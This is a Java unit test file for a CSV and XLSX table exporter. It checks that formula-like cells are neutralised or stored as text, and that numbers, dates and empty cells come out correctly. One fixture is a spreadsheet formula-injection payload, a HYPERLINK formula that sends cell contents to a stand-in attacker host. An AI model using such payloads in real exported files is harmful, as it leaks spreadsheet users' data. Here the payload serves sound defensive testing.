package com.rotationrisk.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** The exported files parsed back: CSV with commons-csv, XLSX with Apache POI. */
class TableExportTest {

    static final String ATTACK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")";

    final Table table = new Table("Book: Q4/2026 [draft]", List.of("Client", "Loss %", "Value USD", "As of"), List.of(
            Arrays.asList(ATTACK, -12.5, 1_234_567.89, LocalDate.of(2001, 1, 2)),
            Arrays.asList("Smith, \"Jr.\"\nTrust", 3.0, null, null),
            Arrays.asList("-1+2", null, 0.1, LocalDate.of(2018, 5, 11))));

    @Test
    void csvNeutralisesFormulaCellsButLeavesNumbersAsNumbers() throws IOException {
        String text = new String(TableExport.csv(table), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text.substring(1))).getRecords();
        assertThat(records).hasSize(4);
        assertThat(records.get(0).toList()).containsExactly("Client", "Loss %", "Value USD", "As of");
        assertThat(records.get(1).toList()).containsExactly("'" + ATTACK, "-12.5", "1234567.89", "2001-01-02");
        assertThat(records.get(2).toList()).containsExactly("Smith, \"Jr.\"\nTrust", "3", "", "");
        assertThat(records.get(3).get(0)).isEqualTo("'-1+2");
        assertThat(records.get(3).get(2)).isEqualTo("0.1");
    }

    @Test
    void xlsxHasTypedCellsAndFormulaTextStaysText() throws IOException {
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(TableExport.xlsx(table)))) {
            Sheet sheet = wb.getSheetAt(0);
            assertThat(sheet.getSheetName()).doesNotContain(":", "/", "[", "]");
            assertThat(sheet.getLastRowNum()).isEqualTo(3);
            Row first = sheet.getRow(1);
            assertThat(first.getCell(0).getCellType()).isEqualTo(CellType.STRING);
            assertThat(first.getCell(0).getStringCellValue()).isEqualTo(ATTACK);
            assertThat(first.getCell(1).getNumericCellValue()).isEqualTo(-12.5);
            assertThat(first.getCell(2).getNumericCellValue()).isEqualTo(1_234_567.89);
            assertThat(first.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2001, 1, 2));
            Row second = sheet.getRow(2);
            assertThat(second.getCell(2)).isNull(); // unknown stays empty, never 0
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Client");
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
        }
    }

    @Test
    void rowsMustFitTheColumnsAndHoldOnlyTextNumbersOrDates() {
        assertThatThrownBy(() -> new Table("t", List.of("a", "b"), List.of(List.of("only one"))))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new Table("t", List.of("a"), List.of(List.of(new Object()))))
                .isInstanceOf(IllegalArgumentException.class);
    }
}
